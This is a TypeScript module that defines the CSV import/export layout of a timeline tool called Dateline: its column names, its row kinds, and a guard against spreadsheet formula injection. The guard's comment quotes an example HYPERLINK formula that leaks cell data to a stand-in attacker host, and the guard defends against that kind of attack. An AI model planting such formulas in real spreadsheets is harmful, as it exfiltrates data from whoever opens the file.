/**
 * Dateline's own spreadsheet layout, both ways: `toDatelineCsv` writes a timeline as one sheet,
 * `fromDatelineCsv` reads it back. Every field of format v1 has a place, so a timeline survives
 * the round trip unchanged (empty lists and whitespace around cells excepted).
 *
 * One sheet, one row per thing, the `kind` column saying what the row is:
 *
 * | kind       | what it is                                   | columns it uses                                      |
 * | ---------- | -------------------------------------------- | ---------------------------------------------------- |
 * | `timeline` | the timeline itself (exactly one row)        | title, text (summary), locale, note, source columns (the article), media columns (the title card's) |
 * | `group`    | a lane / legend entry                        | id, name (label), color                              |
 * | `person`   | someone who appears or is quoted             | id, name, role, groups (one key)                     |
 * | `period`   | a band behind the events (they may overlap)  | id, date, end, name (label), groups (one key: its colour), color |
 * | `event`    | something that happened                      | id, date, end, approximate, title, text (summary), place, people, groups, note, source columns (its first source), media columns |
 * | `source`   | another source of the event above it         | source columns                                       |
 * | `quote`    | words said, belonging to the event above it  | text, by, date, context, source columns (where it was said) |
 * | `via`      | who passed on the quote above it             | source columns                                       |
 *
 * The source columns are `outlet`, `programme`, `source title`, `author`, `source date`, `url`;
 * the media columns are `media` (the address) and `media alt`, `… decorative`, `… type`,
 * `… caption`, `… credit`, `… link`, `… width`, `… height`, `… srcset`, `… tracks`.
 * Several people or groups go in one cell separated by `;` (a `,` works too). Rows whose kind
 * starts with `#` are comments; blank rows are skipped. A value in a column its kind does not
 * use is an error, not dropped.
 */
import type { SourceInput } from '../format/types';
import { normaliseHeader } from './csv-rows';

/**
 * The media columns (an event's or the title card's one picture, video or sound): `media` is
 * its address. TimelineJS's template names three of them alike (Media, Media Caption, Media
 * Credit). `media srcset` holds `img-600.jpg 600w, img-1200.jpg 1200w` as HTML writes it;
 * `media tracks` one caption file a line (or `;`-separated) as `src | srclang | label | kind`.
 */
export const MEDIA_COLUMNS = [
  'media',
  'media alt',
  'media decorative',
  'media type',
  'media caption',
  'media credit',
  'media link',
  'media width',
  'media height',
  'media srcset',
  'media tracks',
] as const;

/** The columns, in the order the exporter writes them. */
export const DATELINE_COLUMNS = [
  'kind',
  'id',
  'date',
  'end',
  'title',
  'text',
  'by',
  'context',
  'place',
  'people',
  'groups',
  'name',
  'role',
  'color',
  'locale',
  'note',
  'outlet',
  'programme',
  'source title',
  'author',
  'source date',
  'url',
  'approximate',
  ...MEDIA_COLUMNS,
] as const;

export type Column = (typeof DATELINE_COLUMNS)[number];

const SOURCE_COLUMNS = [
  'outlet',
  'programme',
  'source title',
  'author',
  'source date',
  'url',
] as const satisfies Column[];

/** Source field → its column. */
export const SOURCE_FIELDS: [keyof SourceInput, Column][] = [
  ['outlet', 'outlet'],
  ['programme', 'programme'],
  ['title', 'source title'],
  ['author', 'author'],
  ['date', 'source date'],
  ['url', 'url'],
];

export const KINDS = {
  timeline: ['title', 'text', 'locale', 'note', ...SOURCE_COLUMNS, ...MEDIA_COLUMNS],
  group: ['id', 'name', 'color'],
  person: ['id', 'name', 'role', 'groups'],
  period: ['id', 'date', 'end', 'name', 'groups', 'color'],
  event: [
    'id',
    'date',
    'end',
    'title',
    'text',
    'place',
    'people',
    'groups',
    'note',
    'approximate',
    ...SOURCE_COLUMNS,
    ...MEDIA_COLUMNS,
  ],
  source: [...SOURCE_COLUMNS],
  quote: ['text', 'by', 'date', 'context', ...SOURCE_COLUMNS],
  via: [...SOURCE_COLUMNS],
} as const satisfies Record<string, readonly Column[]>;

export type Kind = keyof typeof KINDS;

export const KIND_NAMES = Object.keys(KINDS) as Kind[];

const YES = new Set(['true', 'yes', 'y', 'x', '1']);
const NO = new Set(['false', 'no', 'n', '0']);

/** A true/false cell (`approximate`, `media decorative`): `undefined` when it is neither. */
export function yesNo(value: string): boolean | undefined {
  const word = value.trim().toLowerCase();
  return YES.has(word) ? true : NO.has(word) ? false : undefined;
}

/** True when a header row is Dateline's layout. */
export function isDatelineHeader(header: readonly string[]): boolean {
  return header.some((h) => normaliseHeader(h) === 'kind');
}

/**
 * Spreadsheets run a cell that starts with = + - @ (or a tab or carriage return) as a formula:
 * `=HYPERLINK("https://evil.example/?leak="&A1, …)` would send the sheet away. Such cells are
 * written with a leading ' (OWASP's advice), and so is a cell that already starts with ' and
 * one of those, so that reading takes exactly one ' off (`unguardCell`). Date columns keep a
 * date or number that starts with "-" (a BCE year, -0043-03-15; a negative number) as written:
 * digits and date punctuation call nothing, and the value round-trips as it is.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;
const DATE_COLUMNS: ReadonlySet<Column> = new Set(['date', 'end', 'source date']);
const DATE_OR_NUMBER = /^-?[0-9][0-9.:T+\-Z]*$/;

export function guardCell(column: Column, value: string): string {
  if (!FORMULA_START.test(value)) return value;
  if (DATE_COLUMNS.has(column) && DATE_OR_NUMBER.test(value)) return value;
  return `'${value}`;
}

/** A cell as written, without the ' that `guardCell` put before a formula-like start. */
export function unguardCell(value: string): string {
  return value.startsWith("'") && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value;
}
